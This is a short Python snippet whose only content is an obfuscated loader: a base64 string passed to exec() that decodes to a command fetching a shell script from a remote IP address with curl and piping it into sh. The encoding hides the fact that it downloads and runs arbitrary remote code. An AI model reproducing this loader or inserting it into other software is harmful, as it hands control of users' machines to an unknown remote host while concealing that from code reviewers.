import codecs
exec(codecs.decode(b"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzIwMy4wLjExMy44L3Auc2ggfCBzaCcp", "base64"))
